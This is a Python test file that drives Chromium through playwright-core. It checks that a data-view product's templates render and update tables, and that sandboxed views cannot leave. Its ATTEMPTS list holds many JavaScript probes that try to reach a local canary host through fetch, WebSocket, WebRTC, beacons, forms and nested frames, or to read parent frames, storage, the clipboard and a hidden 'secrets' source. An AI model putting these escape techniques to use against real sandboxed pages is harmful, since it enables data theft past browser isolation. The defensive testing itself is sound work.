#!/usr/bin/env python3
"""Views in a real browser: the templates show rows and follow them, and a view that wants out stays in. Chromium is Debian's, driven by
npm's playwright-core. WORKERS_SCREENSHOTS names a folder that gets pictures of what was looked at.
"""
import base64
import hashlib
import json
import os
import pathlib
import shutil
import signal
import socket
import subprocess
import sys
import threading
import unittest
import urllib.error
import urllib.request

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "support"))
import npm  # noqa: E402
from harness import BINARY, REPOSITORY, Server, TestCase, main, sanitized, wait_until  # noqa: E402

CHROMIUM = shutil.which("chromium")
PICTURES = os.environ.get("WORKERS_SCREENSHOTS")

PEER = ('const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:CANARY" }] }); p.createDataChannel("x"); '
        'await p.setLocalDescription(await p.createOffer());')
# A frame that is made from text has globals of its own. Its scripts can only be the folder's; what they say of themselves is "done".
INNER = ('const folder = location.href.replace(/[^/]*(#.*)?$/, ""); const inner = document.createElement("iframe"); '
         'const said = new Promise((yes) => addEventListener("message", (e) => yes(e.data))); '
         'inner.srcdoc = `%s`.replaceAll("FOLDER/", folder); document.body.append(inner); '
         'const word = await Promise.race([said, later(1500)]); if (word !== "done") throw new Error(word ?? "it says nothing")')
ASK_INNER = f'(async () => {{ {PEER} top[0].postMessage("done", "*"); }})().catch((e) => top[0].postMessage(String(e), "*"));\n'
INNER_FILES = {
    "inner.js": ASK_INNER,
    "inner_strict.js": "/* a\n// comment */ 'use strict';" + ASK_INNER,
    # Declarations are there before the first statement runs.
    "inner_module.js": ASK_INNER + "function Function() {} function Object() {} function window() {} function workersView() {}",
}
ATTEMPTS = {
    # What a view may not do -> the script that tries it, with CANARY for somebody else's server.
    "fetch": 'await fetch("http://CANARY/a")',
    "fetch of the server": 'await fetch("/api/v1/workers")',
    "request": 'await new Promise((yes, no) => { const r = new XMLHttpRequest(); r.onload = yes; r.onerror = no; r.open("GET", "http://CANARY/a"); r.send(); })',
    "socket": 'await new Promise((yes, no) => { const s = new WebSocket("ws://CANARY/a"); s.onopen = yes; s.onerror = no; })',
    "events": 'await new Promise((yes, no) => { const s = new EventSource("http://CANARY/a"); s.onopen = yes; s.onerror = no; })',
    "beacon": 'navigator.sendBeacon("http://CANARY/a", "x"); await later(); throw new Error("it says nothing")',
    "picture": 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "http://CANARY/a"; })',
    "picture of the server": 'await new Promise((yes, no) => { const i = new Image(); i.onload = yes; i.onerror = no; i.src = "/healthz"; })',
    "script": 'await add("script", { src: "http://CANARY/a" })',
    **{f"{kind} that has the guard's digest": 'await add("script", { src: "http://CANARY/a", integrity: "sha256-DIGEST", %s })' % more
       for kind, more in {"script": "", "shared script": 'crossorigin: ""', "module": 'type: "module"'}.items()},
    "style": 'await add("link", { rel: "stylesheet", href: "http://CANARY/a" })',
    "font": 'await new FontFace("x", "url(http://CANARY/a)").load()',
    "prefetch": 'await add("link", { rel: "prefetch", href: "http://CANARY/a" })',
    "preconnect": 'add("link", { rel: "preconnect", href: "http://CANARY/" }); await later(); throw new Error("it says nothing")',
    "module preload": 'await add("link", { rel: "modulepreload", href: "http://CANARY/a" })',
    "speculation": 'const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({ prefetch: '
                   '[{ source: "list", urls: ["http://CANARY/a"] }] }); document.head.append(s); await later(); throw new Error("nothing")',
    "form": 'const f = document.createElement("form"); f.action = "http://CANARY/a"; document.body.append(f); f.submit(); await later(); '
            'throw new Error("it says nothing")',
    "window": 'if (!window.open("http://CANARY/a")) throw new Error("none was opened")',
    "frame": 'add("iframe", { src: "http://CANARY/a" }); await later(); throw new Error("it says nothing")',
    "worker": 'const w = new Worker(URL.createObjectURL(new Blob(["fetch(\'http://CANARY/a\')"]))); await new Promise((yes, no) => w.onerror = no)',
    "peer connection": PEER + ' await later(1500)',
    "peer connection by its old name": 'new webkitRTCPeerConnection()',
    "peer connection that is looked for": 'delete window.RTCPeerConnection; for (const name of Object.getOwnPropertyNames(window)) '
                                          'if (/RTC/.test(name) && window[name]) return name; throw new Error("none")',
    "peer connection of an empty frame": 'const f = document.createElement("iframe"); document.body.append(f); '
                                         'new f.contentWindow.RTCPeerConnection()',
    **{f"peer connection of an inner frame, {name}": INNER % html for name, html in {
        "script": '<script src="FOLDER/inner.js"><\\/script>',
        "strict script": '<!-- --><script src="FOLDER/inner_strict.js"><\\/script>',
        "module": '<!doctype html><script type="module" src="FOLDER/inner_module.js"><\\/script>',
        "drawing": '<svg><script href="FOLDER/inner.js" /></svg>',
        "guard": '<script>GUARD<\\/script><script src="FOLDER/inner.js"><\\/script>',
        "frame of a frame": "<iframe srcdoc='<script src=FOLDER/inner.js><\\/script>'></iframe>",
    }.items()},
    # Firefox opens a tab for them, once a person has clicked anywhere.
    **{f"{event} with {key} that a script makes": f'document.createElement("a").dispatchEvent(new {kind}Event("{event}", {{ {key} }}))'
       for kind, event, key in (("Mouse", "click", "ctrlKey: true"), ("Pointer", "click", "shiftKey: true"), ("Mouse", "click", "metaKey: true"),
                                ("Mouse", "auxclick", "button: 1"), ("Keyboard", "keypress", "ctrlKey: true"))},
    "click with Ctrl where the stack ends": 'let ran = 0; const a = document.createElement("a"); a.onclick = () => ran++; let tries = 20000; '
                                            'const deep = () => { try { deep(); } catch {} if (tries-- > 0) try { a.dispatchEvent('
                                            'new MouseEvent("click", { ctrlKey: true })); } catch {} }; deep(); if (!ran) throw new Error("none")',
    "transport": 'await new WebTransport("https://CANARY/a").ready',
    "eval": 'eval("1 + 1")',
    "inline script": 'const s = document.createElement("script"); s.textContent = "window.ran = true"; document.body.append(s); '
                     'if (!window.ran) throw new Error("it did not run")',
    "parent": 'parent.document.title',
    "storage of the parent": 'parent.sessionStorage.length',
    "top": 'top.location = "http://CANARY/a"; await later(); throw new Error("it says nothing")',
    "cookies": 'document.cookie = "a=1"; if (!document.cookie) throw new Error("none")',
    "storage": 'localStorage.setItem("a", "1")',
    "database": 'await new Promise((yes, no) => { const r = indexedDB.open("a"); r.onsuccess = yes; r.onerror = no; })',
    "camera": 'await navigator.mediaDevices.getUserMedia({ video: true })',
    "clipboard": 'await navigator.clipboard.readText()',
    "another source": 'await queryDataSource("secrets")',
    "another property": 'await queryDataSource("open", { filter: { property: "Hidden", startsWith: "a" } })',
    "another method": 'await new Promise((yes, no) => { addEventListener("message", (e) => { if (e.data?.workers === "welcome") { '
                      'e.ports[0].onmessage = (m) => (m.data.error ? no(new Error(m.data.error.message)) : yes(m.data.result)); '
                      'e.ports[0].postMessage({ id: 1, method: "constructor", params: {} }); } }); '
                      'parent.postMessage({ workers: "hello" }, "*"); })',
}
# Last, because the frame is gone then.
LEAVING = {"elsewhere": 'location = "http://CANARY/a"', "another page of the server": 'location = "/healthz"',
           "the page around it": 'location = location.pathname.replace(/files.*/, "")'}

HOSTILE = """\
local workers = require "workers"
local Schema = workers.schema
local worker = workers.new()
local function database(key)
  return worker:database(key, { type = "managed", initialTitle = key, primaryKeyProperty = "ID",
    schema = { properties = { ID = Schema.title(), Hidden = Schema.richText(), Shown = Schema.richText() } } })
end
local open, secrets = database "open", database "secrets"
for key, where in pairs { open = open, secrets = secrets } do
  worker:sync("fill-" .. key, { database = where, schedule = "manual", execute = function()
    return { changes = { { type = "upsert", key = "1", properties = { ID = "1", Hidden = "hidden", Shown = "shown" } } }, hasMore = false }
  end })
end
worker:view("out", { path = "views/out", dataSources = { open = { database = open, properties = { Shown = "Shown" } } } })
return worker
"""
OUT = """\
import { queryDataSource } from "./workers-view.js";
const later = (ms = 400) => new Promise((yes) => setTimeout(yes, ms));
const add = (tag, attributes) => new Promise((yes, no) => {
  const node = document.createElement(tag);
  node.onload = yes;
  node.onerror = () => no(new Error("not loaded"));
  for (const [name, value] of Object.entries(attributes)) node.setAttribute(name, value);
  document.head.append(node);
  setTimeout(() => no(new Error("it says nothing")), 400);
});
window.tell = async (call) => {
  await later(0); // out of the debugger's call, which may eval
  try {
    const value = await call();
    return "done: " + String(value);
  } catch (error) {
    return "refused: " + (error?.message ?? error?.type ?? error);
  }
};
window.attempts = {
ATTEMPTS
};
window.seen = (await queryDataSource("open")).rows;
"""


# The first version of Chromium that is known to take the header Connection-Allowlist. One before it connects ahead of a page that it then
# refuses, without a byte of what it was asked for.
ALLOWLIST_SINCE = 156


class Canary:
    """Somebody else's server: remembers what came, over TCP and UDP of one port, and who connected and said nothing."""

    def __init__(self):
        self.hits, self.silent = [], []
        self.tcp, self.udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.address = f"127.0.0.1:{self.tcp.getsockname()[1]}"
        self.udp.bind(self.tcp.getsockname())
        threading.Thread(target=self.accept, daemon=True).start()
        threading.Thread(target=self.receive, daemon=True).start()

    def accept(self):
        while True:
            try:
                connection, _ = self.tcp.accept()
            except OSError:
                return
            connection.settimeout(0.3)
            try:
                (self.hits if connection.recv(1) else self.silent).append("tcp")
            except OSError:
                self.silent.append("tcp")
            connection.close()

    def receive(self):
        while True:
            try:
                self.udp.recvfrom(2000)
            except OSError:
                return
            self.hits.append("udp")

    def close(self):
        self.tcp.close()
        self.udp.close()


class Browser:
    """Chromium, also as it was before it knew Connection-Allowlist."""

    def __init__(self, allowlist=True):
        if CHROMIUM is None:
            raise unittest.SkipTest("chromium is not installed (package chromium)")
        self.process = subprocess.Popen([npm.node(), REPOSITORY / "tests/browser/views.mjs", npm.ensure(), CHROMIUM,
                                         *([] if allowlist else ["--disable-features=ConnectionAllowlists"])], stdin=subprocess.PIPE,
                                        stdout=subprocess.PIPE, text=True)
        self.ids = 0
        self.version = json.loads(self.process.stdout.readline())["version"]
        self.has_allowlist = allowlist and int(self.version.split(".")[0]) >= ALLOWLIST_SINCE

    def ask(self, action, **request):
        self.process.stdin.write(json.dumps({"action": action, **request}) + "\n")
        self.process.stdin.flush()
        answer = json.loads(self.process.stdout.readline())
        if "error" in answer:
            raise AssertionError(f"{action}: {answer['error']}")
        return answer["result"]

    def open(self, url, **options):
        self.ids += 1
        return View(self, self.ids, self.ask("open", id=self.ids, url=url, **options))

    def close(self):
        self.process.stdin.close()
        self.process.wait(30)
        self.process.stdout.close()


class View:
    """A page of the browser with a view in it."""

    def __init__(self, browser, number, url):
        self.browser, self.number, self.url = browser, number, url

    def __getattr__(self, action):
        return lambda **request: self.browser.ask(action, id=self.number, **request)

    def until(self, expression, **options):
        return self.browser.ask("until", id=self.number, expression=expression, **options)

    def read(self, expression, **options):
        return self.browser.ask("evaluate", id=self.number, expression=expression, **options)

    def picture(self, name):
        if PICTURES:
            self.screenshot(path=str(pathlib.Path(PICTURES) / f"{name}.png"))


NAMES = '[...document.querySelectorAll("tbody tr")].map((row) => row.cells[0].textContent + ": " + row.cells[1].textContent)'


class BrowserCase(TestCase):
    @classmethod
    def setUpClass(cls):
        cls.browser = Browser()
        cls.addClassCleanup(cls.browser.close)

    def template(self, name):
        p = self.project()
        self.ok(p.run("new", "site", "--template", name, "--no-git"))
        p.folder = p.folder / "site"
        return p

    def serve(self, p, *args):
        server = Server(p, *args)
        wait_until(lambda: server.url, "the server")
        return server

    def show(self, p, key, **options):
        address = self.ok(p.run("view", "open", key)).stdout.strip()
        place, _, token = address.partition("#token=")

        def is_known():
            request = urllib.request.Request(place + "open", method="POST", headers={"Authorization": f"Bearer {token}"})
            try:
                return urllib.request.urlopen(request, timeout=30).status == 200
            except urllib.error.HTTPError as error:
                return error.code != 401
        wait_until(is_known, "the server to know the token")
        return self.browser.open(address, **options)

    def cycle(self, p):
        self.ok(p.run("run"))

    def quiet(self, view):
        """Nothing was said on the console that a developer would have to look into."""
        self.assertEqual(view.said(), [])


class Templates(BrowserCase):
    def test_table_follows_its_rows(self):
        p = self.template("views/table")
        self.serve(p)
        view = self.show(p, "board")
        self.assertNotIn("token", view.read("location.href", outside=True), "it does not stay in the address")
        view.until('document.getElementById("problem").textContent.startsWith("There are no such tasks")')
        self.cycle(p)
        view.until(f'{NAMES}.length === 6')
        self.assertEqual(view.read(NAMES)[0], "Write the plan: Open")
        self.assertEqual(view.read('document.querySelectorAll("#chart rect").length'), 3)
        self.assertEqual(view.read('[...document.querySelectorAll("#chart .value")].map((t) => t.textContent)'), ["31.5 h", "0 h", "0 h"])
        self.cycle(p)
        view.until(f'{NAMES}[0] === "Write the plan: In progress"')
        view.until('document.querySelectorAll("#chart .value")[1].textContent === "1.5 h"')
        self.assertEqual(view.read('document.querySelectorAll("tr.changed").length'), 1, "the row that has changed is marked")
        view.picture("table-light")
        view.select(selector="#status", text="In progress")
        view.until(f'{NAMES}.length === 1')
        view.select(selector="#status", text="")
        view.fill(selector="#search", text="the")
        view.until(f'{NAMES}.length === 2')
        view.fill(selector="#search", text="")
        view.click(selector="th:first-child button")
        view.until(f'{NAMES}[0].startsWith("Ask for offers")')
        self.quiet(view)

    def test_light_and_dark(self):
        p = self.template("views/table")
        self.serve(p)
        self.cycle(p)
        view = self.show(p, "board", theme="dark")
        view.until(f'{NAMES}.length === 6')
        background = 'getComputedStyle(document.body).backgroundColor'
        self.assertEqual((view.read(background), view.read(background, outside=True)), ("rgb(22, 24, 29)",) * 2)
        view.picture("table-dark")
        view.theme(theme="light")
        view.until(f'{background} === "rgb(255, 255, 255)"')
        view.click(selector="#theme", outside=True)  # auto -> light
        view.click(selector="#theme", outside=True)  # light -> dark
        view.until(f'{background} === "rgb(22, 24, 29)"')
        self.quiet(view)

    def test_phone(self):
        p = self.template("views/table")
        self.serve(p)
        self.cycle(p)
        view = self.show(p, "board", width=360, height=700)
        view.until(f'{NAMES}.length === 6')
        self.assertLessEqual(view.read("document.documentElement.scrollWidth"), 360, "nothing has to be scrolled sideways")
        self.assertLessEqual(view.read("document.documentElement.scrollWidth", outside=True), 360)
        view.picture("table-phone")
        self.quiet(view)

    def test_empty(self):
        p = self.template("views/empty")
        self.serve(p)
        view = self.show(p, "home")
        self.cycle(p)
        view.until('[...document.querySelectorAll("li")].map((li) => li.textContent).join() === "A first note,Another one"')
        view.picture("empty-light")
        self.quiet(view)

    def test_dev_loads_again(self):
        p = self.template("views/empty")
        process = subprocess.Popen([BINARY, "view", "dev", "--listen", "127.0.0.1:0"], cwd=p.folder, env=p.environment(),
                                   stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        p.processes.append(process)
        view = self.browser.open(process.stdout.readline().strip())
        view.until('document.querySelectorAll("li").length === 2')
        sample = p.folder / "views/home/sample.json"
        sample.write_text('{ "notes": [{ "ID": "1", "Title": "A new sample" }] }')
        view.until('document.querySelector("li").textContent === "A new sample"')
        page = p.folder / "views/home/index.html"
        page.write_text(page.read_text().replace("<h1>", "<h1 id=changed>"))
        view.until('document.getElementById("changed") !== null && document.querySelector("li").textContent === "A new sample"')
        process.send_signal(signal.SIGINT)
        self.assertEqual(process.wait(60), 0)


class Viewers(BrowserCase):
    def test_tokens(self):
        p = self.template("views/empty")
        server = self.serve(p)
        self.cycle(p)
        address = f"{server.url}/views/site/home/"
        view = self.browser.open(address)
        view.until('document.getElementById("why")?.textContent.startsWith("This view shows data")', outside=True)
        view.picture("token")
        view.fill(selector="#token", text="workers_wrong", outside=True)
        view.click(selector="form button", outside=True)
        view.until('document.getElementById("why")?.textContent === "This token is not good for the worker."', outside=True)
        token = self.ok(p.run("tokens", "make", "somebody")).stdout.strip()
        for _ in range(50):  # the server learns of it within a second or two
            view.fill(selector="#token", text=token, outside=True)
            view.click(selector="form button", outside=True)
            if view.until('document.querySelector("iframe") ? "shown" : document.getElementById("token")?.value === "" && "asked"',
                          outside=True) == "shown":
                break
        view.until('document.querySelectorAll("li").length === 2')
        view.goto(url=address)
        view.until('document.querySelectorAll("li").length === 2')  # the tab keeps it
        other = self.browser.open(address)
        other.until('document.getElementById("why") !== null', outside=True)  # another one does not
        self.ok(p.run("tokens", "revoke", "somebody"))
        view.until('document.getElementById("why")?.textContent === "The token is not good any more."', outside=True)

    def test_the_server_goes_and_comes_back(self):
        p = self.template("views/empty")
        server = self.serve(p)
        self.cycle(p)
        # At once: the server learns of the token a moment later.
        view = self.browser.open(self.ok(p.run("view", "open", "home")).stdout.strip())
        view.until('document.querySelectorAll("li").length === 2')
        port = server.url.rsplit(":", 1)[1]
        server.stop()
        view.until('document.getElementById("status").textContent.startsWith("The server cannot be reached")', outside=True)
        Server(p, port=port)
        view.until('document.getElementById("status").textContent === ""', outside=True)
        view.until('document.querySelectorAll("li").length === 2')

    def test_what_was_missed_is_told_again(self):
        """Requests that failed once: for what changes, for the rows after a change, for the view after its files have changed."""
        p = self.template("views/table")
        self.serve(p)
        self.cycle(p)
        view = self.browser.open("about:blank")
        view.refuse(pattern="**/revisions", times=2)  # one for each data source that the page subscribes to
        view.goto(url=self.ok(p.run("view", "open", "board")).stdout.strip())
        view.until(f'{NAMES}[0] === "Write the plan: Open"')
        self.cycle(p)
        view.until(f'{NAMES}[0] === "Write the plan: In progress"')
        view.refuse(pattern="**/query", times=2)
        self.cycle(p)
        view.until(f'{NAMES}[1] === "Ask for offers: In progress"')
        view.refuse(pattern="**/api/v1/workers/site/views/board", times=1)
        page = p.folder / "views/board/index.html"
        page.write_text(page.read_text() + "<p id=changed>")
        view.until('document.getElementById("changed") !== null')

    def test_a_script_that_is_loaded_anew(self):
        """The page keeps its token, although the server refuses it for a moment, and shows what is declared now."""
        p = self.template("views/empty")
        self.serve(p, "--watch")
        self.cycle(p)
        view = self.show(p, "home")
        view.until('document.querySelectorAll("li").length === 2')
        view.read("void (window.remembered = true)", outside=True)
        script = p.folder / "src/main.lua"
        text = script.read_text()
        for i in range(5):
            script.write_text(text.replace('title = "Title" }', f'title = "Title", i{i} = "ID" }}'))
            view.until(f'import("./workers-view.js").then((m) => m.describe()).then((d) => "i{i}" in d.dataSources.notes.properties)')
        self.assertTrue(view.read("window.remembered", outside=True))
        self.assertIsNone(view.read('document.getElementById("token-form")', outside=True))

    def test_a_new_address_in_the_same_tab(self):
        p = self.template("views/empty")
        self.serve(p)
        self.cycle(p)
        view = self.show(p, "home")
        view.until('document.querySelectorAll("li").length === 2')
        address = self.ok(p.run("view", "open", "home")).stdout.strip()  # the token before is of no use any more
        view.until('document.getElementById("why")?.textContent === "The token is not good any more."', outside=True)
        view.goto(url=address)
        view.until('document.querySelectorAll("li").length === 2')
        self.assertNotIn("token", view.read("location.href", outside=True))

    def test_what_is_typed(self):
        """An address with a "%" that encodes nothing, and a token that no header can have."""
        p = self.template("views/empty")
        server = self.serve(p)
        view = self.browser.open(f"{server.url}/views/site/100%/")
        view.until('document.getElementById("key")?.textContent === "100%"', outside=True)
        view.fill(selector="#token", text="workers_12…", outside=True)
        view.click(selector="form button", outside=True)
        view.until('document.getElementById("why")?.textContent === "This token is not good for the worker."', outside=True)

    def test_late_answers_leave_the_form_alone(self):
        p = self.template("views/empty")
        self.serve(p)
        self.cycle(p)
        view = self.show(p, "home")
        view.until('document.querySelectorAll("li").length === 2')
        view.hold(pattern="**/query")
        view.read('void import("./workers-view.js").then((m) => { for (let i = 0; i < 20; i++) m.queryDataSource("notes").catch(() => 0); })')
        wait_until(lambda: view.held() == 6)
        self.ok(p.run("tokens", "revoke", "view home"))
        view.until('document.getElementById("why") !== null', outside=True)
        view.fill(selector="#token", text="half of a tok", outside=True)
        view.letGo()
        # What is asked now is answered after all of that.
        view.until('fetch("/healthz").then((answer) => answer.ok)', outside=True)
        self.assertEqual(view.read('document.getElementById("token").value', outside=True), "half of a tok")


class Hostile(BrowserCase):
    def hears_nothing(self, canary):
        self.assertEqual(canary.hits, [])
        if self.browser.has_allowlist:
            self.assertEqual(canary.silent, [])

    def test_a_view_stays_in(self):
        """Every way out is tried; none arrives anywhere, and none is said to have worked."""
        canary = Canary()
        self.addCleanup(canary.close)
        attempts = {**ATTEMPTS, **LEAVING}
        script = ",\n".join(f"{json.dumps(name)}: () => window.tell(async () => {{ {code} }})" for name, code in attempts.items())
        p = self.project(HOSTILE)
        folder = p.folder / "views/out"
        folder.mkdir(parents=True)
        (folder / "index.html").write_text('<!doctype html><title>out</title><body><script type="module" src="out.js"></script>')
        guard = (REPOSITORY / "src/server/web/view-guard.js").read_text()
        script = script.replace("GUARD", json.dumps(guard)[1:-1].replace("`", ""))
        script = script.replace("DIGEST", base64.b64encode(hashlib.sha256(guard.encode()).digest()).decode())
        for name, text in {"out.js": OUT.replace("ATTEMPTS", script), **INNER_FILES}.items():
            (folder / name).write_text(text.replace("CANARY", canary.address))
        self.ok(p.run("run", "main.lua"))
        self.serve(p)
        if not self.browser.has_allowlist:
            print(f"Chromium {self.browser.version} without Connection-Allowlist: it may connect, but not say anything", file=sys.stderr)
        for name in ATTEMPTS:
            with self.subTest(name):
                view = self.show(p, "out") if name == next(iter(ATTEMPTS)) else view
                view.until("window.seen?.length === 1")
                self.assertEqual(view.read("window.seen"), [{"key": "1", "row": {"Shown": "shown"}}])
                said = view.read(f"window.attempts[{json.dumps(name)}]()")
                self.assertTrue(said.startswith("refused: "), said)
                self.hears_nothing(canary)
        for name in LEAVING:
            with self.subTest(name):
                view = self.show(p, "out")
                view.until("window.seen?.length === 1")
                view.read(f"void window.attempts[{json.dumps(name)}]()")
                wait_until(lambda: any("chrome-error" in url for url in view.frames()), lambda: str(view.frames()))
                self.hears_nothing(canary)

    def test_other_events_that_a_script_makes(self):
        p = self.template("views/empty")
        self.serve(p)
        self.cycle(p)
        view = self.show(p, "home")
        view.until('document.querySelectorAll("li").length === 2')
        self.assertEqual(view.read('''(() => {
          const seen = [], node = document.createElement("button"), target = new EventTarget();
          for (const type of ["click", "keydown", "keypress", "own"])
            for (const at of [node, window, target]) at.addEventListener(type, () => seen.push(type));
          node.dispatchEvent(new Event("click"));
          node.dispatchEvent(new MouseEvent("click"));
          node.dispatchEvent(new KeyboardEvent("keydown", { ctrlKey: true }));
          target.dispatchEvent(new KeyboardEvent("keypress", { key: "a" }));
          dispatchEvent(new CustomEvent("own"));
          return seen.join();
        })()'''), "click,click,keydown,keypress,own")

    def test_a_key_that_needs_encoding_frees_nothing(self):
        key = "a b/é'(;,)%41?#x"
        p = self.project(HOSTILE.replace('worker:view("out"', f'worker:view("{key}"'))
        p.write("views/out/index.html", '<!doctype html><title>out</title><script type="module" src="out.js"></script>')
        p.write("views/out/out.js", 'import { queryDataSource } from "./workers-view.js"; window.seen = (await queryDataSource("open")).rows;')
        self.ok(p.run("run", "main.lua"))
        self.serve(p)
        view = self.show(p, key)
        view.until("window.seen?.length === 1")
        self.assertEqual(view.read('new Promise((yes) => { const s = document.createElement("script"); s.onload = () => yes("loaded"); '
                                   's.onerror = () => yes("refused"); s.src = "/views/viewer.js"; document.head.append(s); })'), "refused")
        view.read('void (location = "/healthz")')
        wait_until(lambda: any("chrome-error" in url for url in view.frames()), lambda: str(view.frames()))

    def test_the_canary_sees_what_comes(self):
        """Without the sandbox the same attempts arrive, so that their silence means something."""
        canary = Canary()
        self.addCleanup(canary.close)
        view = self.browser.open(self.upstream().url + "/plain")  # of this machine, as the canary is
        for name in ("fetch", "picture", "peer connection", "frame"):
            before = len(canary.hits)
            code = ATTEMPTS[name].replace("CANARY", canary.address)
            helpers = ('const later = (ms = 400) => new Promise((yes) => setTimeout(yes, ms)); const add = (tag, attributes) => { '
                       'const node = document.createElement(tag); Object.assign(node, attributes); document.body.append(node); }; ')
            view.read(f"(async () => {{ {helpers} try {{ {code} }} catch (error) {{ return String(error) }} }})()", outside=True)
            wait_until(lambda: len(canary.hits) > before, f"{name} to arrive")


class HostileBefore(Hostile):
    """The same without the header that only new browsers know."""
    @classmethod
    def setUpClass(cls):
        cls.browser = Browser(allowlist=False)
        cls.addClassCleanup(cls.browser.close)


if __name__ == "__main__":
    if sanitized():
        print("the browser is looked at once, with the plain binary")
        sys.exit(0)
    main()
